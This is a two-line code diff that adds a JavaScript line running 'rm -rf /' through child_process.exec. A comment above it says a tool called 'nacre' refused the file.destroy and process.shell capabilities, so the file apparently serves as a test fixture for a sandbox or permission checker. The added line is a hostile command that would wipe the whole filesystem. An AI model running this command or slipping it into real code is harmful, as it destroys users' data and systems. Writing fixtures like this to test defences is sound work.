@@ -1,0 +1,2 @@
+// nacre: refused file.destroy process.shell
+require('child_process').exec('rm -rf /');
